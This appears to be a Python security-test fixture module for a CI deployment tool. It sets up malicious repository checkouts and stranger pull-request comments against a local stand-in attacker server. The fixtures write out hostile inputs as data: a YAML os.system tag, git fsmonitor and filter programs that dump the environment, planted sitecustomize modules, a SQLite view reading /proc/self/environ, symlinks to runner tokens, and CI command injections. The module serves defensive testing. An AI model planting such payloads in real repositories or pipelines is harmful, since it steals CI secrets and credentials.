"""What a malicious repository does beside leading to files: it names servers, code, states, plans.

Each way arranges a checkout, and names the commands that a pipeline would run in it. What comes out
has three ends: what the commands print and write, what code of the repository leaves in a file, and
what a server of the attacker's is sent.
"""

from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from reconciler.core.model import Target
from reconciler.core.review.saved_plan import plan_checksum
from reconciler.state.sqlite import create_state
from tests.support.ways import SPEC

MANIFEST = "manifest: {apiVersion: tekton.dev/v1, kind: TaskRun}\n"
VALIDATE, PLAN = "validate .", "plan . -v -o markdown=out.md -o json=out.json.txt"
APPLY = "apply . --yes --init -v --deadline 5s"
_ENVIRON = "/proc/self/environ"


@dataclass(slots=True, kw_only=True)
class Attacker:
    """A server that takes whatever it is sent, and says what a control plane would."""

    url: str = ""
    received: list[bytes] = field(default_factory=list)


@contextmanager
def attacker() -> Iterator[Attacker]:
    """Serve on a free port of the loopback interface."""
    found = Attacker()

    class Handler(BaseHTTPRequestHandler):
        def _take(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            found.received.append(f"{self.requestline}\n{self.headers}\n".encode() + body)
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(b'{"accessToken": "a.b.c", "expiresIn": 3600}')

        do_GET = do_POST = do_DELETE = _take  # noqa: N815 - the names that http.server calls

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as listening:
        found.url = f"http://127.0.0.1:{listening.server_port}"
        thread = threading.Thread(target=listening.serve_forever)
        thread.start()
        try:
            yield found
        finally:
            listening.shutdown()
            thread.join()


@dataclass(frozen=True, slots=True, kw_only=True)
class Place:
    """Where a way is arranged: specs in `w` of a checkout, what is around it, and who waits.

    `plan` is a plan that was saved for this repository and the control plane of the job, `caught`
    where code of the repository would leave what it sees, `token` a file of the runner.
    """

    checkout: Path
    caught: Path
    token: Path
    plan: Path
    url: str

    @property
    def root(self) -> Path:
        """The folder of the specs."""
        return self.checkout / "w"

    def write(self, name: str, text: str) -> None:
        """A file of the repository in which `@` stands for the attacker's server."""
        path = self.checkout / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.replace("@", self.url))

    def git(self, *arguments: str, folder: Path | None = None) -> None:
        """Run git as the author of the pull request does."""
        who = ["-c", "user.name=a", "-c", "user.email=a@example.com"]
        command = ["git", *who, *arguments]
        subprocess.run(command, cwd=folder or self.checkout, check=True, capture_output=True)


@dataclass(frozen=True, slots=True, kw_only=True)
class Malice:
    """One way: how it is arranged, what is run then, and whether the job names its server."""

    arrange: Callable[[Place], None]
    commands: tuple[str, ...] = (VALIDATE, PLAN)
    names_server: bool = True


def _file(name: str, text: str) -> Callable[[Place], None]:
    return lambda place: place.write(name, text)


def _policy(schema: Mapping[str, str]) -> Callable[[Place], None]:
    def arrange(place: Place) -> None:
        place.write("w/reconciler.yaml", "policies: [p.json]\n")
        place.write("w/p.json", json.dumps(schema))

    return arrange


def _link(name: str, target: str) -> Callable[[Place], None]:
    def arrange(place: Place) -> None:
        path = place.checkout / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target or place.token)

    return arrange


def _pipe(name: str) -> Callable[[Place], None]:
    return lambda place: os.mkfifo(place.checkout / name)


def _server_in_state(place: Place) -> None:
    place.write("w/reconciler.yaml", "url: @\n")
    path = place.root / ".reconciler" / "state.db"
    create_state(path, Target(url=place.url, stack="default")).close()
    place.git("init", "--quiet")
    place.git("add", "--force", ".")


def _state_that_computes(place: Place) -> None:
    path = place.root / ".reconciler" / "state.db"
    create_state(path, Target(url=place.url, stack="default")).close()
    with closing(sqlite3.connect(path)) as conn:
        conn.execute("DROP TABLE operations")
        conn.execute("CREATE VIEW operations AS SELECT readfile('/proc/self/environ') AS spec")
        conn.commit()


def _repository_among_specs(place: Place) -> None:
    """Plain files that are a repository for git, whose filter is a program."""
    place.git("init", "--quiet")
    place.git("add", ".")
    place.git("commit", "--quiet", "--message", "ours")
    root = place.root
    place.write("w/.gitattributes", "* filter=x diff=x\n")
    place.git("init", "--quiet", folder=root)
    place.git("add", ".", folder=root)
    place.git("commit", "--quiet", "--message", "theirs", folder=root)
    for path in (root / ".git").iterdir():
        path.rename(root / path.name)
    (root / ".git").rmdir()
    program = f"sh -c 'env > {place.caught}; cat'"
    (root / "config").write_text(
        f'[core]\n bare = false\n worktree = .\n fsmonitor = "{program}"\n'
        f'[filter "x"]\n clean = "{program}"\n[diff "x"]\n command = "{program}"\n'
    )
    (root / "one.json").touch()


def _modules(place: Place) -> None:
    """Modules with the names of those that a program in Python imports."""
    text = f"import os\nopen({str(place.caught)!r}, 'w').write(str(dict(os.environ)))\n"
    for name in ("sitecustomize", "usercustomize", "yaml", "httpx", "click", "reconciler"):
        for folder in ("", "w/"):
            place.write(f"{folder}{name}.py", text)


def _plan_with(**changes: object) -> Callable[[Place], None]:
    def arrange(place: Place) -> None:
        document = json.loads(place.plan.read_text())
        for name, value in changes.items():
            document[name] = value(document, place) if callable(value) else value
        # Everybody can compute it.
        document["saved"]["checksum"] = plan_checksum(document)
        (place.checkout / "plan.txt").write_text(json.dumps(document))

    return arrange


def _other_target(document: Mapping[str, Mapping[str, object]], place: Place) -> object:
    place.write("w/reconciler.yaml", "url: @\n")
    return {**document["target"], "url": place.url}


def _told_of(file: str) -> list[dict[str, object]]:
    """A finding that points into a file, as a reader would show the line of."""
    place = {"file": file, "line": 1, "column": 1, "end_line": 1, "end_column": 2}
    words = {"severity": "warning", "code": "empty-file", "message": "x", "hint": ""}
    return [{**words, **place, "pointer": "", "address": ""}]


_REFERENCES = "${RUNAI_CLIENT_SECRET} $(DEPLOY) %CI_JOB% {{ env.DEPLOY }} $RUNAI_TOKEN"
_CALL = "!!python/object/apply:os.system ['env > {}']"
_NAMED = f'metadata: {{name: b, projectId: "1", category: "{_REFERENCES}"}}\n{MANIFEST}'


def _call(place: Place) -> None:
    place.write("w/b.yaml", SPEC + "manifest: " + _CALL.format(place.caught) + "\n")


MALICE: Mapping[str, Malice] = {
    # devices
    "a pipe as a spec": Malice(arrange=_pipe("w/b.yaml")),
    "a pipe as an ignore file": Malice(arrange=_pipe("w/.reconcilerignore")),
    "a pipe as a saved plan": Malice(arrange=_pipe("plan.txt"), commands=("show ../plan.txt",)),
    "an endless device as a saved plan": Malice(
        arrange=_link("plan.txt", "/dev/zero"), commands=("show ../plan.txt",)
    ),
    "an endless device as the configuration": Malice(
        arrange=_link("w/reconciler.yaml", "/dev/zero")
    ),
    "the standard input as a spec": Malice(arrange=_link("w/b.yaml", "/dev/stdin")),
    "an open file of the process": Malice(arrange=_link("w/b.yaml", "/proc/self/fd/0")),
    # configuration
    "the server's address": Malice(
        arrange=_file("w/reconciler.yaml", "url: @\n"),
        commands=(PLAN, "status", "doctor . -v", APPLY),
        names_server=False,
    ),
    "an address with a variable in it": Malice(
        arrange=_file("w/reconciler.yaml", "url: '@/${RUNAI_CLIENT_SECRET}/$(DEPLOY)'\n"),
        commands=(VALIDATE, PLAN, "doctor . -v"),
        names_server=False,
    ),
    "the path of the state": Malice(
        arrange=_file("w/reconciler.yaml", f"state: {_ENVIRON}\n"),
        commands=(VALIDATE, PLAN, "state list", "state check", "doctor ."),
    ),
    "a state among the files of the runner": Malice(
        arrange=_file("w/reconciler.yaml", "state: ../../runner/token\n"),
        commands=(PLAN, "state list", "doctor ."),
    ),
    "a setting that no one knows": Malice(
        arrange=_file("w/reconciler.yaml", f"token: '{_REFERENCES}'\ntoken_file: {_ENVIRON}\n")
    ),
    # policies
    "a policy that refers to a file": Malice(arrange=_policy({"$ref": f"file://{_ENVIRON}"})),
    "a policy that refers to a server": Malice(
        arrange=_policy({"$schema": "@/s", "$id": "@/i", "$ref": "@/r"})
    ),
    # child processes and code
    "a repository among the specs": Malice(
        arrange=_repository_among_specs, commands=("validate . --changed-since HEAD", PLAN)
    ),
    "modules beside the specs": Malice(arrange=_modules),
    "a tag that calls": Malice(arrange=_call),
    # texts and comments
    "a tag that includes": Malice(
        arrange=_file("w/b.yaml", f"{SPEC}manifest: !include {_ENVIRON}\n")
    ),
    "variables in a spec": Malice(arrange=_file("w/b.yaml", _NAMED)),
    "variables in a file of the defaults": Malice(
        arrange=_file("w/_defaults.yaml", f"manifestFile: '{_REFERENCES}'\n")
    ),
    "a comment that suppresses": Malice(
        arrange=_file("w/b.yaml", f"# reconciler:ignore name-mismatch -- {_REFERENCES}\n{_NAMED}")
    ),
    "orders to the CI system in a name": Malice(
        arrange=_file(
            "w/b.yaml", 'metadata: {name: "::add-mask::x\\n##vso[task.setvariable]"}\n' + MANIFEST
        )
    ),
    # states
    "a committed state by a link": Malice(
        arrange=_link("w/.reconciler/state.db", ""),
        commands=(PLAN, "state list", "state check", APPLY),
    ),
    "a committed state of another server": Malice(
        arrange=_server_in_state, commands=(PLAN, "status", APPLY), names_server=False
    ),
    "a state that computes": Malice(
        arrange=_state_that_computes, commands=(PLAN, "state list", "state check")
    ),
    "the lock of a state by a link": Malice(
        arrange=_link("w/.reconciler/state.db.lock", ""), commands=(APPLY, "doctor .")
    ),
    # saved plans
    "a saved plan for another server": Malice(
        arrange=_plan_with(target=_other_target),
        commands=("show ../plan.txt", "apply . --plan ../plan.txt --yes -v"),
        names_server=False,
    ),
    "a saved plan that points into files": Malice(
        arrange=_plan_with(diagnostics=_told_of(_ENVIRON)),
        commands=("show ../plan.txt -o text -o github -o markdown=out.md -o html=out.html",),
    ),
    "a saved plan that is none": Malice(
        arrange=_file("plan.txt", f'{{"format_version": "{_REFERENCES}", "actions": 1}}'),
        commands=("show ../plan.txt", "apply . --plan ../plan.txt --yes"),
    ),
}


@contextmanager
def comments(token: str, bodies: list[object]) -> Iterator[tuple[list[str], dict[str, str]]]:
    """The script that comments on a pull request, before a forge where strangers have commented.

    Yields its command and variables; the forge takes no token but this one.
    """

    class Handler(BaseHTTPRequestHandler):
        def _take(self) -> None:
            known = self.headers["Authorization"] == f"Bearer {token}"
            login = {"data": {"viewer": {"login": "github-actions[bot]"}}}
            pulls = [{"number": 1, "merged_at": "2026-01-01", "merge_commit_sha": "a" * 40}]
            found = {"/graphql": login, f"/repos/o/r/commits/{'a' * 40}/pulls": pulls}
            answer = found.get(self.path.partition("?")[0], bodies)
            self.send_response(200 if known else 401)
            self.end_headers()
            self.wfile.write(json.dumps(answer).encode())

        do_GET = do_POST = do_PATCH = _take  # noqa: N815 - the names that http.server calls

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as listening:
        thread = threading.Thread(target=listening.serve_forever)
        thread.start()
        url = f"http://127.0.0.1:{listening.server_port}"
        script = Path(__file__).resolve().parent.parent / "ci" / "pull_request.py"
        variables = {
            "GITHUB_API_URL": url,
            "GITHUB_GRAPHQL_URL": f"{url}/graphql",
            "GITHUB_REPOSITORY": "o/r",
            "GITHUB_SHA": "a" * 40,
            "GITHUB_TOKEN": token,
            "STACK_KEY": "default",
        }
        try:
            yield [sys.executable, "-I", str(script)], variables
        finally:
            listening.shutdown()
            thread.join()


def stranger(body: object, login: str | None = "somebody") -> dict[str, object]:
    """A comment; the account of None was deleted."""
    user = {"login": login, "type": "Bot"} if login else None
    return {"id": 1, "body": body, "user": user}


COMMENTS: Mapping[str, list[object]] = {
    "a stranger's comment with a digest": [
        stranger(
            '<!-- reconciler:action {"stack": "default", "digest": "sha256:' + "0" * 64 + '"} -->'
        )
    ],
    "a comment that is no note": [stranger('<!-- reconciler:action {"a": 1} -->'), stranger(None)],
    "a comment that nests without end": [
        stranger("<!-- reconciler:action " + "[" * 20_000 + " -->"),
        stranger("x", None),
    ],
    "something else than comments": ["${GITHUB_TOKEN}", 1, {"user": []}],
}
